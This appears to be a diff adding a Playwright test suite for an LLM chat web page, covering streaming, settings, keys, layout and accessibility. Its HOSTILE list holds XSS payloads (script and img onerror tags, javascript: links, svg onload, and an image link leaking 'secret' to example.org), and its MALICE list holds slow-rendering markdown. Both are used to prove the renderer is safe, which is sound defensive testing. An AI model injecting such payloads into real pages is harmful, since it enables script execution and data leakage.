@@ -1,0 +1,367 @@
+"""The page in a real Chromium: chatting, stopping, keys, history, and hostile answers.
+
+Runs against a scripted server (`page_server.py`). Skipped where Playwright or a Chromium
+is not installed.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import shutil
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+playwright = pytest.importorskip("playwright.sync_api")
+CHROMIUM = next(
+    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
+)
+if CHROMIUM is None:
+    pytest.skip("no Chromium on this machine", allow_module_level=True)
+
+_spec = importlib.util.spec_from_file_location(
+    "page_server", Path(__file__).parent / "page_server.py"
+)
+assert _spec is not None
+assert _spec.loader is not None
+page_server = importlib.util.module_from_spec(_spec)
+sys.modules["page_server"] = page_server
+_spec.loader.exec_module(page_server)
+
+FLAGS = [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+]  # fmt: skip
+PHONE = {
+    "viewport": {"width": 390, "height": 844},
+    "is_mobile": True, "has_touch": True, "device_scale_factor": 2,
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright.sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def server() -> Iterator[Any]:
+    with page_server.ScriptedServer() as server:
+        yield server
+
+
+@pytest.fixture
+def open_page(browser: Any, server: Any) -> Iterator[Callable[..., Any]]:
+    """Opens the page; whatever it complains about on the console fails the test."""
+    contexts, complaints = [], []
+
+    def note(line: Any) -> None:
+        if line.type == "error":
+            complaints.append(line.text)
+
+    def open_one(*, is_ready: bool = True, **options: Any) -> Any:
+        context = browser.new_context(**{"viewport": {"width": 1400, "height": 900}, **options})
+        contexts.append(context)
+        page = context.new_page()
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on(
+            "console", lambda line: complaints.append(line.text) if line.type == "error" else None
+        )
+        page.on("dialog", lambda dialog: dialog.accept())
+        page.goto(server.url)
+        if is_ready:
+            page.wait_for_selector('#state[data-state="ready"]')
+        return page
+
+    yield open_one
+    for context in contexts:
+        context.close()
+    # Chromium itself reports refused requests as console errors; those are asked for.
+    assert [c for c in complaints if not c.startswith("Failed to load resource")] == []
+
+
+def ask(page: Any, text: str) -> Any:
+    """Sends a message and waits for the end of the answer; returns its body."""
+    before = page.locator(".message.assistant").count()
+    page.fill("#prompt", text)
+    page.press("#prompt", "Enter")
+    page.wait_for_selector(f".message.assistant >> nth={before}")
+    page.wait_for_selector("#send:not([hidden])")
+    return page.locator(".message.assistant .body").nth(before)
+
+
+def test_an_answer_streams_in_and_tells_its_speed(open_page: Any, server: Any) -> None:
+    server.script.answer = lambda _: page_server.say("The answer is **42**.")
+    server.script.delay_s = 0.02
+    page = open_page()
+    body = ask(page, "What is 17 + 25?")
+    assert body.inner_text() == "The answer is 42."
+    assert body.locator("strong").inner_text() == "42"
+    stats = page.locator(".message.assistant .stats").inner_text()
+    assert "tokens/s" in stats
+    assert "6 tokens" in stats
+    assert "32 of 48 read from cache" in stats
+    sent = server.script.requests[0]
+    assert sent["messages"] == [{"role": "user", "content": "What is 17 + 25?"}]
+    assert sent["stream_options"] == {"include_usage": True}
+
+
+def test_the_whole_conversation_is_sent_and_survives_a_reload(open_page: Any, server: Any) -> None:
+    server.script.answer = lambda body: page_server.say(f"answer {len(body['messages'])}")
+    page = open_page()
+    ask(page, "first")
+    ask(page, "second")
+    assert [m["content"] for m in server.script.requests[1]["messages"]] == [
+        "first", "answer 1", "second",
+    ]  # fmt: skip
+    page.reload()
+    page.click("text=first")
+    assert page.locator(".message.assistant .body").all_inner_texts() == ["answer 1", "answer 3"]
+    page.hover(".conversations li")
+    page.click(".remove")
+    assert page.locator(".conversations li").count() == 0
+    page.reload()
+    page.wait_for_selector("#greeting")
+    assert page.locator(".conversations li").count() == 0
+
+
+def test_stop_ends_the_request_and_keeps_what_came(open_page: Any, server: Any) -> None:
+    server.script.answer = lambda _: page_server.say("word " * 4000, 5)
+    server.script.delay_s = 0.01
+    page = open_page()
+    page.fill("#prompt", "go on")
+    page.press("#prompt", "Enter")
+    page.wait_for_selector("text=word word word")
+    page.keyboard.press("Escape")
+    page.wait_for_selector("#send:not([hidden])")
+    assert "stopped" in page.locator(".assistant .stats").inner_text()
+    assert server.script.closed_early.wait(5)
+    assert page.locator(".assistant .body").inner_text().startswith("word word")
+
+
+HOSTILE = [
+    '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>',
+    "[click](javascript:window.pwned=1) and [x](data:text/html,<script>window.pwned=1</script>)",
+    "![pixel](https://example.org/track.png?said=secret)",
+    "<svg/onload=window.pwned=1> **<iframe srcdoc='<script>parent.pwned=1</script>'>**",
+    "```html\n<script>window.pwned=1</script>\n```\n`<b onmouseover=pwned=1>`",
+    "| a | b |\n|---|---|\n| <img src=x onerror=pwned=1> | [l](vbscript:x) |",
+    '[a](https://example.org/"onmouseover="window.pwned=1)',
+    "<style>body{display:none}</style><base href=https://example.org/><form action=x>",
+]
+
+
+def test_nothing_that_a_model_writes_becomes_html(open_page: Any, server: Any) -> None:
+    server.script.answer = lambda body: page_server.say(body["messages"][-1]["content"], 7)
+    outside: list[str] = []
+    page = open_page()
+    page.on("request", lambda r: None if r.url.startswith(server.url) else outside.append(r.url))
+    for text in HOSTILE:
+        check_harmless(ask(page, text))
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.pwned") is None
+    assert outside == []
+
+
+def check_harmless(body: Any) -> None:
+    found = body.evaluate("node => [...node.querySelectorAll('*')].map(n => n.tagName)")
+    assert not set(found) & {"IMG", "SCRIPT", "SVG", "IFRAME", "STYLE", "FORM", "BASE", "LINK"}
+    for href in body.locator("a").evaluate_all("links => links.map(a => a.href)"):
+        assert href.startswith("https://example.org/")
+    attributes = body.evaluate(
+        "node => [...node.querySelectorAll('*')].flatMap(n => [...n.attributes].map(a => a.name))"
+    )
+    assert not [name for name in attributes if name.startswith("on")]
+
+
+MALICE = {
+    "stars": "*" * 20_000, "brackets": "[" * 20_000, "ticks": "`" * 19_999,
+    "words": "*a " * 6_000, "mixed": "a*b_c" * 4_000, "quotes": "> " * 5_000,
+    "lists": "- " * 5_000, "table": "|" * 9_000 + "\n" + "|-" * 4_000, "escapes": "\\" * 20_000,
+    "urls": "(((http://" * 2_000, "rules": "- - - x\n" * 3_000, "blanks": " " * 20_000 + "x",
+}  # fmt: skip
+
+
+def test_malicious_markdown_cannot_hang_the_page(open_page: Any) -> None:
+    page = open_page()
+    for name, text in MALICE.items():
+        took = page.evaluate(
+            """async text => {
+                const { renderMarkdown } = await import('/ui/markdown.js');
+                const begin = performance.now();
+                renderMarkdown(text);
+                return performance.now() - begin;
+            }""",
+            text,
+        )
+        assert took < 2000, name
+
+
+def test_markdown(open_page: Any, server: Any) -> None:
+    text = (
+        "# Title\n\nOne **bold** and *soft* and `code` word.\nNext line.\n\n"
+        "1. one\n   - inner\n2. two\n\n"
+        "| a | b |\n|--:|---|\n| 1 | 2 |\n\n> quoted\n\n```python\nx = 1  # note\n```\n\n"
+        "See https://example.org/a_b_c. Not_an_emphasis and 2 * 3 * 4."
+    )
+    server.script.answer = lambda _: page_server.say(text, 3)
+    body = ask(open_page(), "show")
+    assert body.locator("h3").inner_text() == "Title"
+    assert body.locator("p").first.inner_text() == "One bold and soft and code word.\nNext line."
+    assert body.locator("ol > li").count() == 2
+    assert body.locator("ol > li ul > li").inner_text() == "inner"
+    assert body.locator("td").all_inner_texts() == ["1", "2"]
+    assert body.locator("blockquote").inner_text() == "quoted"
+    assert body.locator("pre").inner_text() == "x = 1  # note"
+    assert body.locator("pre .c").inner_text() == "# note"
+    assert body.locator("a").get_attribute("href") == "https://example.org/a_b_c"
+    assert body.locator("p").last.inner_text().endswith("Not_an_emphasis and 2 * 3 * 4.")
+
+
+def test_thinking_is_folded_away_and_not_sent_back(open_page: Any, server: Any) -> None:
+    server.script.answer = lambda _: page_server.say("<think>17 + 25</think>It is 42.")
+    page = open_page()
+    body = ask(page, "sum?")
+    assert body.locator("details").get_attribute("open") is None
+    assert body.locator("> p").inner_text() == "It is 42."
+    ask(page, "sure?")
+    assert server.script.requests[1]["messages"][1]["content"] == "It is 42."
+
+
+def test_settings_reach_the_request(open_page: Any, server: Any) -> None:
+    page = open_page()
+    page.click("#open-settings")
+    page.fill("[name=system]", "Answer in Latin.")
+    page.fill("[name=temperature]", "0")
+    page.fill("[name=max_tokens]", "7")
+    page.fill("[name=stop]", "END|STOP")
+    page.click("text=Done")
+    ask(page, "hi")
+    sent = server.script.requests[0]
+    assert sent["messages"][0] == {"role": "system", "content": "Answer in Latin."}
+    assert (sent["temperature"], sent["max_tokens"], sent["stop"]) == (0, 7, ["END", "STOP"])
+    assert "top_p" not in sent
+    page.click("#open-settings")
+    page.check("[value=completion]")
+    page.click("text=Done")
+    page.click("#new-chat")
+    ask(page, "Once upon a time")
+    assert server.script.requests[1]["path"] == "/v1/completions"
+    assert server.script.requests[1]["prompt"] == "Once upon a time"
+
+
+def test_a_guarded_server_is_asked_with_the_key(open_page: Any, server: Any) -> None:
+    server.script.api_key = "sesame"
+    page = open_page(is_ready=False)
+    page.wait_for_selector("#key-dialog[open]")
+    page.fill("#key", "wrong")
+    page.press("#key", "Enter")
+    page.wait_for_selector("#key-dialog[open]")
+    page.fill("#key", "sesame")
+    page.press("#key", "Enter")
+    page.wait_for_selector('#state[data-state="ready"]')
+    assert ask(page, "hi").inner_text() == "Hello."
+    assert page.evaluate("localStorage.getItem('quire.api-key')") is None
+
+
+def test_a_busy_server_is_explained_and_asking_again_works(open_page: Any, server: Any) -> None:
+    page = open_page()
+    server.script.refusal = (503, "The queue is full.")
+    body = ask(page, "hi")
+    assert body.inner_text() == "The server is busy. The queue is full. Try again in 3 s."
+    server.script.refusal = None
+    page.click("button >> text=Again")
+    page.wait_for_selector(".assistant .body >> text=Hello.")
+    assert page.locator(".message.assistant").count() == 1
+
+
+def test_the_live_view_follows_the_engine(open_page: Any, server: Any) -> None:
+    server.script.busy = True
+    page = open_page()
+    page.wait_for_selector("#running >> text=/^[4-9]$/")
+    assert page.locator("#kv-usage").inner_text().endswith("1,024 blocks of 16 tokens")
+    held = page.locator("#pool").get_attribute("aria-label")
+    assert "blocks held" in held
+    colours = page.evaluate(
+        """() => { const c = document.querySelector('#pool');
+            const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
+            const seen = new Set();
+            for (let i = 0; i < d.length; i += 4)
+                if (d[i + 3] === 255) seen.add(`${d[i]},${d[i + 1]},${d[i + 2]}`);
+            return seen.size; }"""
+    )
+    assert colours >= 4
+    box = page.locator("#pool").bounding_box()
+    page.mouse.move(box["x"] + 3, box["y"] + 3)
+    assert page.locator("#pool-tip").inner_text().startswith("Block 0: ")
+
+
+def test_a_vanished_server_is_noticed(open_page: Any, server: Any) -> None:
+    page = open_page()
+    server.is_closing.set()
+    server.shutdown()
+    server.socket.close()
+    page.wait_for_selector('#state[data-state="away"]', timeout=8000)
+
+
+def test_the_block_map_is_checked(open_page: Any) -> None:
+    page = open_page()
+    decoded = page.evaluate("import('/ui/pool.js').then(m => m.decodeMap('f2u1s1c3').join(''))")
+    assert decoded == "ffusccc"
+    with pytest.raises(playwright.Error, match="too long"):
+        page.evaluate("import('/ui/pool.js').then(m => m.decodeMap('f999999999'))")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_it_fits_a_phone(open_page: Any, server: Any, scheme: str) -> None:
+    server.script.answer = lambda _: page_server.say("```\n" + "x" * 300 + "\n```\n" + "y" * 300)
+    page = open_page(**PHONE, color_scheme=scheme)
+    ask(page, "z" * 200)
+    for view in ("engine", "chat"):
+        page.click(f".tabs [data-view={view}]")
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.click("#menu")
+    page.wait_for_selector(".conversation >> visible=true")
+    time.sleep(0.3)
+    assert page.locator("#shelf").bounding_box()["x"] == 0
+
+
+PAIRS = (
+    ("ink", "paper"), ("ink-soft", "paper"), ("ink-soft", "sheet"), ("accent", "paper"),
+    ("accent-ink", "accent"), ("bad", "paper"),
+)  # fmt: skip
+
+
+def test_everything_has_a_name_and_enough_contrast(open_page: Any) -> None:
+    for scheme in ("light", "dark"):
+        page = open_page(color_scheme=scheme)
+        nameless = page.evaluate(
+            """() => [...document.querySelectorAll('button, input, select, textarea')]
+                .filter(n => !(n.ariaLabel || n.textContent.trim() || n.labels?.length))
+                .map(n => n.id)"""
+        )
+        assert nameless == []
+        for text, ground in PAIRS:
+            colours = page.evaluate(
+                "names => import('/ui/dom.js').then(m => names.map(n => m.cssColor('--' + n)))",
+                [text, ground],
+            )
+            assert contrast(*colours) >= 4.5, (scheme, text, ground)
+
+
+def contrast(first: str, second: str) -> float:
+    """Source: WCAG 2.2, contrast ratio of two `rgb(r, g, b)` colours."""
+
+    def luminance(colour: str) -> float:
+        parts = [float(part) / 255 for part in colour[4:-1].split(",")]
+        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
+        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+    low, high = sorted((luminance(first), luminance(second)))
+    return (high + 0.05) / (low + 0.05)
